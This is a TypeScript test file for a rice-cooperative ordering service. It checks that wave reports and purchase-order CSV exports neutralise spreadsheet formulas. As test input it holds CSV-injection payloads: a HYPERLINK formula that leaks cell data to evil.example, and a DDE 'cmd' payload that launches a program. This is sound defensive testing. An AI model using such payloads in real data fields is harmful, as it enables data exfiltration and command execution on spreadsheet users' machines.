import { parse } from 'csv-parse/sync';
import { WaveLifecycleService } from '../src/waves/wave-lifecycle.service';
import { bearer, createWave, login, packOf, referenceCase, ReferenceCase } from './support/fixtures';
import { startTestContext, TestContext } from './support/test-app';
import { placeOrder } from './desk-fixtures';

const sleepUntil = (at: number) => new Promise((resolve) => setTimeout(resolve, Math.max(0, at - Date.now())));
const FORMULA = /^[=+\-@\t\r]/;

describe('Hardening (finding 4): no export carries a live formula', () => {
  let ctx: TestContext;
  let ref: ReferenceCase;

  beforeAll(async () => {
    ctx = await startTestContext();
    ref = await referenceCase(ctx);
  });

  afterAll(() => ctx.close());

  const formulaCells = (csv: string) =>
    (parse(csv, { relax_column_count: true }) satisfies string[][]).flat().filter((cell) => FORMULA.test(cell));

  it('defuses agencies, cooperative and product names in the reports and the purchase-order CSV', async () => {
    const auth = bearer(ref.adminToken);
    const coop = await ctx.http
      .post('/cooperatives')
      .set(auth)
      .send({ name: '=HYPERLINK("http://evil.example/?"&A1,"Koperasi")', region: 'Kabupaten Indramayu' })
      .expect(201);
    const product = await ctx.http
      .post(`/cooperatives/${coop.body.id}/products`)
      .set(auth)
      .send({ commodity: 'beras', name: '@SUM(1+1)*cmd|" /C calc"!A0', pricePerKgRp: 11_000, availableKg: 1_000, packs: [{ sizeKg: 5 }] })
      .expect(201);
    const agency = '+HYPERLINK("http://evil.example","Kementerian")';
    const nip = '198503122010011001';
    await ctx.http
      .post('/buyers')
      .send({ nip, name: '-Siti Rahmawati', agency, phone: '081234567890', password: 'rahasia-siti-2026' })
      .expect(201);
    const buyer = { id: '', nip, token: await login(ctx, nip, 'rahasia-siti-2026') };
    const wave = await createWave(ctx, { ...ref, productId: product.body.id }, { capacityKg: 100, closesInMs: 3_000 });
    await placeOrder(ctx, wave, buyer, ref.points[0].id, { 5: 2 });
    expect(packOf(wave, 5)).toEqual(expect.any(String));
    await sleepUntil(new Date(wave.closesAt).getTime() + 1_050);
    await ctx.apps[0].get(WaveLifecycleService).sweep();

    const all = await ctx.http.get('/reports/waves.csv').set(auth).expect(200);
    const one = await ctx.http.get(`/reports/waves/${wave.id}.csv`).set(auth).expect(200);
    const [po] = (await ctx.http.get(`/waves/${wave.id}/purchase-orders`).set(auth).expect(200)).body;
    const poCsv = await ctx.http.get(`/purchase-orders/${po.id}.csv`).set(auth).expect(200);
    for (const csv of [all.text, one.text, poCsv.text]) expect(formulaCells(csv)).toEqual([]);
    expect(one.text).toContain(`'${agency.replace(/"/g, '""')}`);
    expect(poCsv.text).toContain("'@SUM(1+1)");
    expect(poCsv.text).toContain("'=HYPERLINK(");
  });
});
